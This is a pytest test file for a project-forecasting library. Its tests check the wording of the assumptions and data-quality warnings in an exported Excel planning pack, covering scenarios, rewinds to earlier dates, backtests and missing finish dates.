    settings = pack_settings(pack)
    said = settings["fallback: open work to the team pool"]
    assert said.startswith(f"{n_left + n_zed} open tasks (") and f"{left} (left, {n_left} tasks)" in said
    assert " of 2 people who cannot do them go to the pool of their project's team: " in said
    quality = pd.read_csv(next(f for f in pack.files if f.name == "pack-data-quality-tasks.csv"))
    assert (quality.loc[quality["check"] == "assignee_left", "value"] == left).sum() == n_left


def test_one_open_task_to_the_pool_is_said_in_the_singular(tmp_path):
    # "1 open task (8 h estimated) of 1 person who cannot do them go to the pool of their project's team"
    tasks, projects, people, requests = small_org()
    one = tasks.index[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)][0]
    tasks.loc[one, [S.ASSIGNEE, S.ESTIMATE]] = ["Zed Unknown", 8.0]
    # the console's words name the people as the pack does, not as a Python list (['Zed Unknown'])
    with pytest.warns(DataQualityWarning, match=re.escape(
            "open work assigned to people not in the people table or already gone (Zed Unknown) goes to the "
            "project team's pool")):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=100, random_state=0, progress=False)
    settings = pack_settings(pack)
    assert settings["fallback: open work to the team pool"] == (
        "1 open task (8 h estimated) of 1 person who cannot do it goes to the pool of its project's "
        "team: Zed Unknown (not in the people table, 1 task)")


def test_a_project_not_yet_started_is_said_in_the_assumptions(tmp_path):
    tasks, projects, people, requests = small_org()
    as_of = tasks[S.FINISHED].max().normalize()
    open_ids = tasks.loc[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES), S.PROJECT_ID].unique()
    pid = sorted(open_ids)[0]
    later = projects.assign(**{S.START: projects[S.START].where(projects[S.PROJECT_ID] != pid,
                                                                as_of + pd.Timedelta(days=60))})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=later, people=people,
                                  requests=requests, n_trials=200, random_state=0, progress=False)
    settings = pack_settings(pack)
    hours = pack.forecasts["finish"].not_started["open_estimate_hours"].iat[0]
    assert settings["projects not yet started"] == (
        "1 project starts after the as-of date; nobody works on a project before its start, so the plan schedules "
        f"its open work from then on, behind what its people are expected to be doing: {pid} (starts "
        f"{as_of + pd.Timedelta(days=60):%Y-%m-%d}, {hours:,.0f} h open)")
    # and the Projects sheet's finish comes after that start, in every trial
    finish = pack.forecasts["finish"]
    assert finish.by_project().loc[pid, "earliest"] > as_of + pd.Timedelta(days=60)


def test_open_tasks_planned_to_start_later_are_said_in_the_assumptions(tmp_path):
    tasks, projects, people, requests = small_org()
    as_of = tasks[S.FINISHED].max().normalize()
    is_open = (tasks[S.STATUS] == S.OPEN).to_numpy()
    planned = pd.Series(pd.NaT, index=tasks.index, dtype="datetime64[ns]")
    planned[np.flatnonzero(is_open)[:2]] = as_of + pd.Timedelta(days=90)
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.assign(**{S.PLANNED_START: planned}),
                                  projects=projects, people=people, requests=requests, n_trials=200,
                                  random_state=0, progress=False)
    settings = pack_settings(pack)
    hours = tasks.loc[planned.notna(), S.ESTIMATE].sum()
    assert sorted(pack.forecasts["finish"].held_tasks[S.TASK_ID]) == sorted(tasks.loc[planned.notna(), S.TASK_ID])
    day = f"{as_of + pd.Timedelta(days=90):%Y-%m-%d}"
    assert settings["tasks not yet due to start"] == (
        f"2 open tasks ({fixed(hours)} h estimated) are planned to start after the as-of date (between {day} and "
        f"{day}); nobody works on a task before its planned start, so the finish dates schedule it from then on")


def test_what_the_new_work_forecast_warned_is_in_the_assumptions(tmp_path):
    # the demand forecast behind the (new work) row recorded its fallbacks (warnings_), and no sheet said them
    tasks, projects, people, requests = small_org()  # some tasks without an estimate: counted at the median
    with pytest.warns(DataQualityWarning, match="^" + re.escape(
            "25 of the 1,867 tasks created have no positive 'estimate_hours': their project's median estimate is counted (the "
            "median of all estimates in a project with none), not 0 h") + "$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False, new_work=True)
    said = [w for w in pack.forecasts["demand"].warnings_ if "new_projects" not in w]
    assert said and "tasks created have no positive 'estimate_hours'" in said[0]
    settings = pack_settings(pack)
    assert settings["check: new work still to arrive (--new-work)"] == "; ".join(said)


def test_what_the_request_log_leaves_open_is_said(tmp_path):
    # a log that ended months before the forecast date was quoted as the pool today; 0 touch hours were work
    tasks, projects, people, requests = small_org()
    as_of = tasks[S.FINISHED].max().normalize()
    old = requests[requests[S.REQUESTED] < as_of - pd.Timedelta(days=200)].copy()
    old = old[old[S.DONE_AT].isna() | (old[S.DONE_AT] < as_of - pd.Timedelta(days=200))]
    old.loc[old.index[::4], S.TOUCH_HOURS] = 0.0
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=old, n_trials=100, random_state=0, progress=False)
    settings = pack_settings(pack)
    end = pack.forecasts["queue"].log_end
    assert settings["check: PM-pool request log"] == (
        f"the request log ends on {end:%Y-%m-%d}, {(as_of - end.normalize()).days:,} days before the forecast "
        "date: the PM-pool figures describe the pool as it was then")
    zeros = len(old.index[::4])
    assert settings["inferred: requests"].startswith(
        f"{zeros:,} of {len(old):,} requests with 0 touch_hours taken as not logged")


def test_open_work_larger_than_anything_learnt_is_said(tmp_path):
    # 400 h tasks against a history up to about 40 h got the largest band's ratios without a word
    tasks, projects, people, requests = small_org()
    done = tasks.loc[S.finished_with_actuals(tasks), S.ESTIMATE].max()
    big = tasks.index[tasks[S.STATUS] == S.OPEN][:3]
    tasks.loc[big, S.ESTIMATE] = 10 * done
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  n_trials=100, random_state=0, progress=False)
    settings = pack_settings(pack)
    assert settings["check: open work beyond the history"] == (
        f"3 open tasks ({30 * done:,.0f} h) are estimated above the largest finished task the accuracy model "
        f"learnt from ({done:,.0f} h): their forecasts carry the largest tasks' ratios over to sizes never seen")


def test_a_backtest_too_small_to_run_is_said_once(tmp_path):
    # "backtest not run: backtest: 30 finished tasks ... 70%/30%.." (prefix and full stop doubled)
    tasks, projects, people, requests = small_org()
    done = tasks.index[S.finished_with_actuals(tasks)]
    tasks = tasks.drop(index=done[35:])
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        with pytest.warns(SmallSampleWarning, match="^" + re.escape(
                "Only 35 finished tasks: too few to recalibrate on recent history or to check the model against the "
                "baselines; quantiles are uncalibrated, half the model's and half the global ratio distribution's.")
                          + "$"):
            pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                          n_trials=100, random_state=0, progress=False)
    settings = pack_settings(pack)
    assert settings["fallback: backtest"] == (
        "backtest not run: 35 finished tasks with estimate and actual > 0 are too few to split 70%/30%")


def test_a_warning_only_a_scenario_or_the_team_view_raises_reaches_the_user_once(tmp_path):
    # the scenarios' forecasts and the per-team workload ran with every SmallSampleWarning and DataQualityWarning
    # ignored ("the baseline already reported these"): what only they found was never said. Now the pack's
    # said_once drops the exact repeats alone
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    open_t = tasks[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)]
    team = sorted(open_t.loc[open_t[S.PROJECT_ID] == "PRJ-07", S.ASSIGNEE].dropna().unique())
    tasks.loc[tasks.index[tasks[S.STATUS] == S.DONE][-1], S.ASSIGNEE] = "Zed Stranger"  # no row in people
    leave = [{"person": p, "date": "2026-07-15"} for p in team]
    # two scenarios whose whole PRJ-07 team leaves: the baseline has a team for its pooled work, they do not
    scenarios = [Scenario.from_dict({"name": "team leaves", "leaves": leave}),
                 Scenario.from_dict({"name": "team leaves, more demand", "leaves": leave, "demand_growth": 1.1})]
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, scenarios=scenarios, n_trials=200, random_state=0, progress=False)
    said = [str(w.message) for w in caught if issubclass(w.category, DataQualityWarning)]
    # the named workload's, which the per-team workload (people_detail="team") says in the same words: once
    stranger = ("1 assignee with work is not in the people table (Zed Stranger): 6.5 h with no capacity to set "
                "against; add them to the people table")
    assert said == [stranger,
                    # the two scenarios' own, said once
                    "project PRJ-07 has pooled work but no team in the people table who will be there to do it: "
                    "everyone in the table who will shares it"]
    assert "6.5 h with no capacity to set against (counted under (unassigned))" in "; ".join(
        pack.forecasts["workload_team"].notes)


def test_validate_inputs_says_each_warning_once_as_the_pack_does():
    # validate_inputs loads as the pack does, but not under said_once: two tables given in memory, each with one
    # project id written as an Excel text formula, said the same words twice
    tasks = pd.DataFrame({S.TASK_ID: ["T1", "T2"], S.PROJECT_ID: ['="0012"', "0013"], S.STATUS: ["done", "open"],
                          S.ESTIMATE: [5.0, 8.0], S.ACTUAL: [6.0, None], S.ASSIGNEE: ["Ann", "Bo"],
                          S.CREATED: ["2026-01-02", "2026-01-05"], S.FINISHED: ["2026-01-09", None]})
    projects = pd.DataFrame({S.PROJECT_ID: ['="0012"', "0013"], S.MANAGER: ["Cy", "Cy"], S.BUDGET: [100, 50],
                             S.DUE: ["2026-06-01", "2026-07-01"]})
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        X.validate_inputs(tasks, projects=projects)
    assert [str(w.message) for w in caught] == [
        '<DataFrame>: 1 cell (project_id: 1) written as an Excel text formula (="0012", as exports keep an id\'s '
        "leading zeros) read as the text in its quotes (0012); if the frame is tables a loader returned, joined "
        "(pd.concat drops their attrs where they differ, and with them the sign that they were loaded), that text "
        "was their own: give the loader each table as it returned it."]


def test_two_scenario_files_with_one_name_are_refused_before_the_run(tmp_path):
    # found after the whole run, naming Python functions (compare_scenarios, Scenario.replace)
    tasks, projects, people, requests = small_org()
    files = []
    for i, growth in enumerate((1.1, 1.2)):
        f = tmp_path / f"s{i}.yaml"
        f.write_text(f"name: growth\ndemand_growth: {growth}\n", encoding="utf-8")
        files.append(f)
    with pytest.raises(ValueError, match=re.escape(f"scenarios '{files[0]}' and '{files[1]}' are both named "
                                                   "'growth'; the comparison needs a name per scenario")):
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               scenarios=files, n_trials=100, progress=False)
    assert not (tmp_path / "pack.xlsx").exists()


def test_a_scenario_named_baseline_may_not_change_the_plan(tmp_path):
    # it replaced the comparison's baseline: the Scenarios sheet's baseline then disagreed with Projects
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    hire = Scenario.from_dict({"name": "baseline", "hires": [{"person": "New PM", "role": "pm",
                                                              "start": "2026-07-01"}]})
    with pytest.raises(ValueError, match="is named 'baseline' but changes the plan; the baseline is the plan as "
                                         "it stands \\(the Projects sheet\\): give this scenario another name"):
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               requests=requests, scenarios=[hire], n_trials=100, progress=False)


def test_the_baseline_scenario_alone_writes_the_pack_and_says_there_is_nothing_to_compare(tmp_path):
    # fuzz round 21: --scenario data/scenarios/baseline.yaml alone stopped the whole pack after the run with
    # "compare_scenarios needs at least two results" (exit 2); with another scenario the baseline is its first
    tasks, projects, people, requests = small_org()
    note = ("only the baseline was given, the plan as it stands (the Projects sheet): no Scenarios sheet; add a "
            "scenario that changes the plan (--scenario) to compare it with the baseline")
    with pytest.warns(SettingsWarning, match=re.escape(note)):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      scenarios=[REPO / "data/scenarios/baseline.yaml"], n_trials=100,
                                      progress=False)
    assert "Scenarios" not in openpyxl.load_workbook(pack.path).sheetnames
    settings = pack_settings(pack)
    assert settings["scenarios: not run"] == note


def test_scenarios_with_a_project_not_assessed_and_their_measures_named(tmp_path):
    # a project with neither due date nor budget added a sixth scenario row: summary.html had formats for five
    # and the pack was not written (IndexError); the waits and peak were read as the Summary's observed ones
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    live = projects[S.STATUS] == S.ACTIVE
    first = projects.index[live][0]
    projects = projects.assign(**{c: projects[c].where(projects.index != first) for c in (S.DUE, S.BUDGET)})
    hire = Scenario.from_dict({"name": "hire", "hires": [{"person": "New PM", "role": "pm", "start": "2026-07-01"}]})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=[hire], n_trials=100, progress=False)
    html = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "projects not assessed (no due date, no budget)" in html
    scen = pack.tables["scenarios"]
    assert list(scen.index[:3]) == ["approval wait P50 (working days, queue model)",
                                    "approval wait P90 (working days, queue model)",
                                    "PM-pool utilisation (queue model)"]
    assert "peak weekly utilisation, busiest role" in scen.index and scen.loc[
        "projects not assessed (no due date, no budget)", "baseline"] == 1


def test_a_scenario_that_cannot_apply_is_named(tmp_path):
    # with several scenario files, "leaves: person 'Nobody' is not in the people table" said not which
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    bad = Scenario.from_dict({"name": "leaver", "leaves": [{"person": "Nobody", "date": "2026-08-01"}]})
    with pytest.raises(ValueError, match="^scenario 'leaver': leaves: person 'Nobody' is not in the people table"):
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               requests=requests, scenarios=[bad], n_trials=100, progress=False)


def test_a_backtest_out_of_time_order_is_an_assumption(tmp_path):
    # an export without finish dates: the backtest's split can only follow the row order; say so
    tasks, projects, people, _ = small_org()
    with pytest.warns((DataQualityWarning, SmallSampleWarning, SettingsWarning)) as caught:
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.assign(**{S.FINISHED: pd.NaT}),
                                      projects=projects, people=people, n_trials=200, random_state=0,
                                      progress=False)
    assert [(w.category, str(w.message)) for w in caught] == [  # no finish date: what cannot be read without one
        (DataQualityWarning, "4 start dates fall after the latest created or finished date (2026-06-26), up to "
                             "2026-06-29: planned starts, not starts, so the as-of date is not moved by them. Pass "
                             "as_of= to choose another date."),
        # 200 trials, to be quick: said once the inputs are loaded
        (SettingsWarning, "200 Monte Carlo trials: a probability such as P(late) is uncertain by up to 3.5 percentage "
                          "points (one standard error at 50%) and a P90 rests on the 20 trials beyond it; use at least "
                          "1,000 (10,000, the default, for the meeting)."),
        # one fact, said once with both its consequences: the fit and the backtest each said it of their own
        (DataQualityWarning, "no finish dates: the accuracy model's recalibration folds and the backtest's split "
                             "follow the table's row order, taken as the order the tasks finished in."),
        # a done task stayed open at every cut after it was created, its project running at each: 35 project-cuts
        (DataQualityWarning, "finish slip: 8 backdated project-cuts left out: the project finished, but none of "
                             "its tasks has a finish date, so how long it took is not known; 1,331 done tasks "
                             "have no finish date and are left out of the backdated plans after their last date "
                             "(created or started): when they finished is not known"),
        (SmallSampleWarning, "finish dates: stated capacity (pace 1: no finished work in the 13 weeks before the "
                             "forecast date to measure the delivered pace on)"),
        (SmallSampleWarning, "finish dates: no slip learnt: 5 backdated project-cuts, 0 of them finished (needs 10, "
                             "3 finished at least); the plan's own dates are used")]
    settings = pack_settings(pack)
    # one row, as the warnings say it once: "fallback: backtest" and the recalibration's reason had said it again
    assert settings["fallback: history order"] == (
        "no finished task has a finish date: every task weighs alike in the accuracy model (no recency weighting); "
        "the accuracy model's recalibration folds and the backtest's split follow the table's row order, taken as "
        "the order the tasks finished in")
    assert "fallback: backtest" not in settings and "fallback: accuracy model history order" not in settings
    assert "row order" not in settings["accuracy model: recalibration used"]
    # a second pack on the same table: its fits handed out again (FITS) say what they said, once as well; the fit
    # and the backtest called alone still say their own (test_accuracy, test_backtest)
    said = [(w.category, str(w.message)) for w in caught]
    with pytest.warns((DataQualityWarning, SmallSampleWarning, SettingsWarning)) as caught:
        X.export_planning_pack(tmp_path / "again" / "pack.xlsx", tasks=tasks.assign(**{S.FINISHED: pd.NaT}),
                               projects=projects, people=people, n_trials=200, random_state=0, progress=False)
    assert [(w.category, str(w.message)) for w in caught] == said


def test_one_finish_date_for_every_task_is_said_once_in_the_assumptions(tmp_path):
    # every finished task dated, all on one day: the warnings said the row order once, the Assumptions twice (the
    # recalibration's reason and "fallback: backtest")
    tasks, projects, people, _ = small_org()
    same = tasks.assign(**{S.FINISHED: tasks[S.FINISHED].where(tasks[S.FINISHED].isna(), pd.Timestamp("2026-06-20"))})
    order = ("every finish date is the same (2026-06-20): the accuracy model's recalibration folds and the backtest's "
             "split follow the table's row order, taken as the order the tasks finished in")
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=UserWarning)  # 200 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=same, projects=projects, people=people,
                                      n_trials=200, random_state=0, progress=False)
    assert [str(w.message) for w in caught if "row order" in str(w.message)] == [f"{order}."]
    settings = pack_settings(pack)
    assert settings["fallback: history order"] == order
    assert [k for k, v in settings.items() if "row order" in str(v)] == ["fallback: history order"]
    assert "fallback: backtest" not in settings
    assert settings["accuracy model: recalibration used"].endswith("t-test p = 0.564)")


def test_a_hedged_model_without_finish_dates_is_not_said_to_have_folds(tmp_path):
    # 45 finished tasks, none dated: the model is hedged, with no recalibration folds, yet its row said "the
    # recalibration folds follow the table's row order"; only the backtest's split follows it
    tasks, projects, people, _ = small_org()
    tasks = tasks.drop(index=tasks.index[S.finished_with_actuals(tasks)][45:]).assign(**{S.FINISHED: pd.NaT})
    with pytest.warns((DataQualityWarning, SmallSampleWarning, SettingsWarning)) as caught:
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      n_trials=100, random_state=0, progress=False)
    hedged = ("too few to recalibrate on recent history or to check the model against the baselines; quantiles are "
              "uncalibrated, half the model's and half the global ratio distribution's.")
    assert [(w.category, str(w.message)) for w in caught] == [
        (DataQualityWarning, "6 start dates fall after the latest created or finished date (2026-06-24), up to "
                             "2026-06-29: planned starts, not starts, so the as-of date is not moved by them. Pass "
                             "as_of= to choose another date."),
        (SettingsWarning, "100 Monte Carlo trials: a probability such as P(late) is uncertain by up to 5.0 percentage "
                          "points (one standard error at 50%) and a P90 rests on the 10 trials beyond it; use at least "
                          "1,000 (10,000, the default, for the meeting)."),
        (SmallSampleWarning, f"Only 45 finished tasks: {hedged}"),
        (DataQualityWarning, "backtest: no finish dates: the split follows the table's row order, taken as the order "
                             "the tasks finished in."),
        (SmallSampleWarning, "backtest, the model fitted on the training part (the earliest 31 of 45): Only 31 "
                             f"finished tasks: {hedged}"),
        (DataQualityWarning, "finish slip: 7 backdated project-cuts left out: the project finished, but none of its "
                             "tasks has a finish date, so how long it took is not known; 75 done tasks have no finish "
                             "date and are left out of the backdated plans after their last date (created or "
                             "started): when they finished is not known"),
        (SmallSampleWarning, "finish dates: stated capacity (pace 1: no finished work in the 13 weeks before the "
                             "forecast date to measure the delivered pace on)"),
        (SmallSampleWarning, "finish dates: no slip learnt: 4 backdated project-cuts, 0 of them finished (needs 10, 3 "
                             "finished at least); the plan's own dates are used")]
    settings = pack_settings(pack)
    assert settings["fallback: history order"] == (
        "no finished task has a finish date: every task weighs alike in the accuracy model (no recency weighting); "
        "the backtest's split follows the table's row order, taken as the order the tasks finished in")
    assert settings["accuracy model: recalibration used"] == "none: only 45 finished tasks: too few to recalibrate"
    assert "fallback: backtest" not in settings


def test_finished_tasks_without_a_finish_date_are_counted_in_the_singular_or_plural(tmp_path):
    # "1 of 96 finished tasks have no finish date": the verb agreed with the tasks, not with the one of them (done
    # tasks now, as every count of done tasks without a finish date says them: core.as_of.no_finish_said)
    tasks, projects, people, _ = small_org()
    done = tasks.index[S.finished_with_actuals(tasks)]
    for k, verb in ((1, "has"), (2, "have")):
        t = tasks.copy()
        t.loc[done[:k], S.FINISHED] = pd.NaT
        (tmp_path / str(k)).mkdir()
        with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
            warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
            pack = X.export_planning_pack(tmp_path / str(k) / "pack.xlsx", tasks=t, projects=projects, people=people,
                                          n_trials=100, random_state=0, progress=False)
        assert [str(w.message) for w in caught] == [
            f"backtest: {k} of 1,622 done tasks {verb} no finish date and {'is' if k == 1 else 'are'} left out "
            f"({'it' if k == 1 else 'they'} cannot be placed before or after the split).",
            f"finish slip: {k} done {'task' if k == 1 else 'tasks'} {verb} no finish date and "
            f"{'is' if k == 1 else 'are'} left out of the backdated plans after {'its' if k == 1 else 'their'} last date (created or started): when "
            f"{'it' if k == 1 else 'they'} finished is not known"]
        settings = pack_settings(pack)
        total = pack.forecasts["model"].n_tasks_
        assert settings["fallback: accuracy model history order"] == (
            f"{k} of {total:,} done tasks {verb} no finish date: taken as the oldest history (lowest recency "
            "weight, never in the recalibration folds)")


def test_a_rewound_pack_is_the_pack_made_from_the_history_as_it_stood(tmp_path):
    # --rewind: last quarter's pack from today's export. Work created later is left out, work finished
    # later reopened (its actual unknown then), the request log cut the same way; a project closed since
    # but running then counts as active. Known answer: the pack built from the tables cut by hand.
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of
    from pmo_forecast.pool.queueing import requests_as_of

    tasks, projects, people, requests = small_org()
    projects = projects.assign(status=projects["status"].mask(projects["project_id"] == "PRJ-06", "closed"))
    latest = infer_as_of(tasks)
    as_of = latest - pd.Timedelta(days=60)
    end = as_of + pd.Timedelta(days=1)
    later = int((tasks["created"] >= end).sum())
    reopened = int((tasks["status"].eq("done") & (tasks["finished"] >= end) & (tasks["created"] < end)).sum())
    later_requests = int((requests["requested"] >= end).sum())
    undated = int((tasks["status"].eq("cancelled") & tasks["finished"].isna() & (tasks["created"] < end)).sum())
    assert later and reopened and later_requests and undated  # the cut leaves something out of each
    # the sample's open tasks without an estimate as of the cut, and no "as_of is before the latest date": rewound
    unestimated = [SAMPLE_NO_ESTIMATE]
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 300 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "a" / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, as_of=as_of, n_trials=300, random_state=0, progress=False,
                                      rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == unestimated
    assumptions = pd.read_csv(tmp_path / "a" / "pack-assumptions.csv").set_index("setting")["value"]
    assert assumptions["as of: rewound"] == (
        f"the task table rewound to the end of {as_of:%Y-%m-%d} (its latest date is {latest:%Y-%m-%d}): "
        f"{later:,} of {len(tasks):,} tasks created later left out, {reopened:,} finished later reopened (their "
        f"actual hours unknown then), {undated:,} cancelled tasks carry no date: kept as cancelled (cancelled after "
        f"{as_of:%Y-%m-%d} or not, there is no telling); the request log too ({later_requests:,} requests made later "
        "left out; waits "
        "and hands-on hours known by then only); 1 project closed or cancelled since, with work still open then, "
        "counted as active (PRJ-06); budgets, due dates and the people table as given (a later re-baseline or "
        "staff change is not undone)")
    assert "check: forecast date" not in assumptions.index
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 300 trials, to be quick
        by_hand = X.export_planning_pack(
            tmp_path / "b" / "pack.xlsx", tasks=tasks_as_of(tasks, as_of), people=people,
            projects=projects.assign(status=projects["status"].mask(projects["project_id"] == "PRJ-06", "active")),
            requests=requests_as_of(requests, as_of), as_of=as_of, n_trials=300, random_state=0, progress=False)
    assert [(w.category, str(w.message)) for w in caught] == unestimated  # the same words
    for table in ("projects", "queue", "utilisation"):
        pd.testing.assert_frame_equal(pack.tables[table], by_hand.tables[table])
    assert "PRJ-06" in set(pack.tables["projects"]["project_id"])  # forecast: its work was running
    with pytest.raises(ValueError, match=re.escape("rewind needs the date to rewind to: give as_of (on the command "
                                                   "line: --as-of YYYY-MM-DD with --rewind)")):
        X.export_planning_pack(tmp_path / "c" / "pack.xlsx", tasks=tasks, rewind=True, progress=False)


@pytest.mark.parametrize("created", [True, False])
def test_a_pack_rewound_to_before_the_first_task_is_refused(tmp_path, created):
    # before any task was in the table there was no pack to make: it came out with "no project has open
    # work" on every sheet, looking like a real pack. Without created dates a task is known from its
    # project's first start or finish.
    from pmo_forecast.forecasting.rewind import known_since

    tasks, projects, people, _ = small_org()
    if not created:
        tasks = tasks.drop(columns="created")
    first = known_since(tasks).min()  # reads a missing created column as blank
    as_of = first - pd.Timedelta(days=10)
    with warnings.catch_warnings(record=True) as caught, pytest.raises(ValueError, match=re.escape(
            f"as_of {as_of:%Y-%m-%d} is before the task table's first task (known from {first:%Y-%m-%d}): no work "
            f"was in it then, so there is no pack to rewind to; give an as_of on or after {first:%Y-%m-%d} (on the "
            "command line: --as-of YYYY-MM-DD)")):
        warnings.simplefilter("always")
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people, as_of=as_of,
                               n_trials=200, progress=False, rewind=True)
    assert not (tmp_path / "pack.xlsx").exists()
    # refused before any word on its settings: it warned of its 200 trials first, then refused to be made
    assert not [str(w.message) for w in caught if re.match(FEW_TRIALS, str(w.message))]
    # the first day with work: a pack (its tasks created that day), which warns of its 200 trials and of the open
    # tasks then without an estimate (without created dates, those known from their project's first date too)
    unestimated = ("2 open tasks have no positive estimate (PRJ-01-149, PRJ-01-191)" if created else
                   "4 open tasks have no positive estimate (PRJ-01-25, PRJ-01-146, PRJ-01-149, PRJ-01-191)")
    with pytest.warns(SettingsWarning, match=FEW_TRIALS), pytest.warns(DataQualityWarning, match="^" + re.escape(
            f"{unestimated}: their project's median estimate is used (the median of all estimates in a project with "
            "none), not 0 h. Estimate them for a truer load.") + "$"):
        pack = X.export_planning_pack(tmp_path / "b" / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      as_of=first, n_trials=200, progress=False, rewind=True)
    assert pack.path.exists()


def test_a_rewind_cuts_a_request_log_that_runs_later_than_the_tasks(tmp_path):
    # fuzz (rewind): with the task table ending by as_of the log was left whole, its later requests in the queue
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of
    from pmo_forecast.pool.queueing import requests_as_of

    tasks, projects, people, requests = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    early = tasks_as_of(tasks, as_of)  # a task export made on as_of, beside today's request log
    later = len(requests) - len(requests_as_of(requests, as_of))
    assert later > 0
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=early, projects=projects, people=people,
                               requests=requests, as_of=as_of, n_trials=200, random_state=0, progress=False,
                               rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE]  # as they stood on as_of
    rewound = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert rewound == (f"the task table's latest date ({infer_as_of(early):%Y-%m-%d}) is not after as_of "
                       f"{as_of:%Y-%m-%d}: the task table as given; the request log rewound to the end of "
                       f"{as_of:%Y-%m-%d} ({later:,} requests made later left out; waits and hands-on hours known "
                       "by then only)")


@pytest.mark.parametrize("days", [-30, 800])
def test_a_forecast_date_off_the_data_is_checked(tmp_path, days):
    # before the data's end, finished work still counts as done; far after it, open work has waited
    # all that time: both are said, in a warning and in Assumptions
    from pmo_forecast import forecast_finish_dates
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, _ = small_org()
    latest = infer_as_of(tasks)
    as_of = latest + pd.Timedelta(days=days)
    note = (f"as_of {as_of:%Y-%m-%d} is before the latest date in the task table ({latest:%Y-%m-%d}): work "
            "finished after it still counts as done, so the forecast is not the one you would have made then "
            "(--rewind, or rewind=True in export_planning_pack, makes the pack as of that date; "
            "pmo_forecast.forecasting.rewind.tasks_as_of rewinds the task table)"
            if days < 0 else
            f"as_of {as_of:%Y-%m-%d} is 800 days after the latest date in the task table ({latest:%Y-%m-%d}): "
            "open work counts as waiting all that time, no one has logged hours in the last 13 weeks and the "
            "plan starts then; check the date")
    # and what follows from the date: before the data's end, the hours booked after it; 800 days after it, the work
    # under way all that time (the pack and the finish-date forecast alike)
    also = "^" + re.escape(
        f"652 h of finished work are booked after as_of {as_of:%Y-%m-%d} (the task table runs later): that work counts "
        "as done, so those hours are in no period and the periods from as_of on hold the plan's work only "
        "(pmo_forecast.forecasting.rewind.tasks_as_of rewinds the table to that date)"
        if days < 0 else
        "6 open tasks have been under way longer than 99% of finished tasks took from start to finish (9 working "
        "days), oldest first: PRJ-07-119 (started 2026-06-24, 0 h booked, estimate 21 h); PRJ-06-166 (started "
        "2026-06-26, 0 h booked, estimate 40 h); PRJ-08-156 (started 2026-06-29, 0 h booked, estimate 9.75 h) and 3 "
        "more. Each is forecast as still running, at least at its booked hours: 84 h still to do on them at P50, 8% "
        "of the open work. If they are finished or abandoned, close or cancel them in the tracker "
        "(pmo_forecast.aging_work lists them)") + "$"
    with pytest.warns(DataQualityWarning, match=re.escape(note)) as caught, pytest.warns(DataQualityWarning,
                                                                                         match=also):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      as_of=as_of, n_trials=200, random_state=0, progress=False)
